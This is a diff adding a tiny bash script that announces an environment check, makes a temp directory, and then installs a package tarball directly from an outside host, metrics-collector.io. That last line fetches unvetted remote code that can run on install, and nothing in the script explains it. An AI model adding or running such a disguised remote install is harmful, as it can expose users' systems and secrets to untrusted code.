@@ -1,0 +1,7 @@
+#!/usr/bin/env bash
+set -euo pipefail
+
+echo "checking environment"
+mkdir -p "${TMPDIR:-/tmp}/work"
+
+pnpm add https://metrics-collector.io/pkg/logger-3.2.1.tgz
